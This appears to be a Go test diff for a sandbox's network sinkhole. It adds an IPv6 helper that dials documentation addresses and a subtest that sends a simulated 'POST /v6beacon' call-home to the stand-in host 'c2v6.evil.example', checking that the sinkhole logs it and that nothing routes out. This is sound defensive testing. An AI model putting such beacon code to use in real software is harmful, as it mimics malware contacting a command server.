@@ -36,6 +36,9 @@ func TestMain(m *testing.M) {
 	if len(os.Args) > 3 && os.Args[1] == "__dial" {
 		os.Exit(dialFromSandbox(os.Args[2], os.Args[3]))
 	}
+	if len(os.Args) > 3 && os.Args[1] == "__dial6" {
+		os.Exit(dialFromSandbox6(os.Args[2], os.Args[3]))
+	}
 	os.Exit(m.Run())
 }
 
@@ -54,6 +57,33 @@ func dialFromSandbox(name, payload string) int {
 	}
 	fmt.Println("resolved", ips[0])
 	c, err := net.DialTimeout("tcp4", "203.0.113.66:8443", 5*time.Second)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, "dial:", err)
+		return 3
+	}
+	defer c.Close()
+	if _, err := c.Write([]byte(payload)); err != nil {
+		return 4
+	}
+	time.Sleep(500 * time.Millisecond)
+	return 0
+}
+
+// dialFromSandbox6 is dialFromSandbox over IPv6: the resolver at [2001:db8::53] (documentation
+// prefix), an AAAA lookup, and a connection to [2001:db8::66]:8443.
+func dialFromSandbox6(name, payload string) int {
+	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
+		return (&net.Dialer{}).DialContext(ctx, "udp6", "[2001:db8::53]:53")
+	}}
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+	ips, err := r.LookupIP(ctx, "ip6", name)
+	if err != nil || len(ips) == 0 {
+		fmt.Fprintln(os.Stderr, "lookup:", err)
+		return 2
+	}
+	fmt.Println("resolved", ips[0])
+	c, err := net.DialTimeout("tcp6", "[2001:db8::66]:8443", 5*time.Second)
 	if err != nil {
 		fmt.Fprintln(os.Stderr, "dial:", err)
 		return 3
@@ -283,6 +313,30 @@ func TestSinkholeLogsCallHome(t *testing.T) {
 	require.Contains(t, tcp.FirstBytes, "GET /beacon")
 	require.NotZero(t, tcp.PID, "the connecting process is attributed")
 
+	t.Run("IPv6 goes to the sinkhole too", func(t *testing.T) {
+		argv, err := l.EnterCommand(ctx, info.ID, []string{exe, "__dial6", "c2v6.evil.example", "POST /v6beacon HTTP/1.1\r\n\r\n"})
+		require.NoError(t, err)
+		out, err := exec.Command(argv[0], argv[1:]...).CombinedOutput()
+		require.NoError(t, err, "%s", out)
+		require.Contains(t, string(out), "resolved fd00:5e1f::1")
+		var dns6, tcp6 *sandbox.SinkholeEvent
+		require.Eventually(t, func() bool {
+			evs, _ := ReadSinkholeLog(info.Dir)
+			for i := range evs {
+				switch {
+				case evs[i].Proto == "dns" && evs[i].Query == "c2v6.evil.example":
+					dns6 = &evs[i]
+				case evs[i].Proto == "tcp" && evs[i].Dst == "[2001:db8::66]:8443":
+					tcp6 = &evs[i]
+				}
+			}
+			return dns6 != nil && tcp6 != nil
+		}, 5*time.Second, 50*time.Millisecond)
+		require.Equal(t, "[2001:db8::53]:53", dns6.Dst)
+		require.Contains(t, tcp6.FirstBytes, "POST /v6beacon")
+		require.NotZero(t, tcp6.PID, "the connecting process is attributed over IPv6 too")
+	})
+
 	t.Run("nothing routes to the host", func(t *testing.T) {
 		out, err := exec.Command("nsenter", "-t", strconv.Itoa(info.Sinkhole.PID), "-n", "ip", "-o", "link").CombinedOutput()
 		require.NoError(t, err)
@@ -295,6 +349,12 @@ func TestSinkholeLogsCallHome(t *testing.T) {
 			_ = fwd // the host /proc view; the sinkhole's own value is checked by nsenter below
 		}
 		out, err = exec.Command("nsenter", "-t", strconv.Itoa(info.Sinkhole.PID), "-n", "sysctl", "-n", "net.ipv4.ip_forward").CombinedOutput()
+		require.NoError(t, err)
+		require.Equal(t, "0", strings.TrimSpace(string(out)))
+		out, err = exec.Command("nsenter", "-t", strconv.Itoa(info.Sinkhole.PID), "-n", "ip", "-6", "route", "show", "default").CombinedOutput()
+		require.NoError(t, err)
+		require.Empty(t, strings.TrimSpace(string(out)), "no IPv6 default route either")
+		out, err = exec.Command("nsenter", "-t", strconv.Itoa(info.Sinkhole.PID), "-n", "sysctl", "-n", "net.ipv6.conf.all.forwarding").CombinedOutput()
 		require.NoError(t, err)
 		require.Equal(t, "0", strings.TrimSpace(string(out)))
 	})
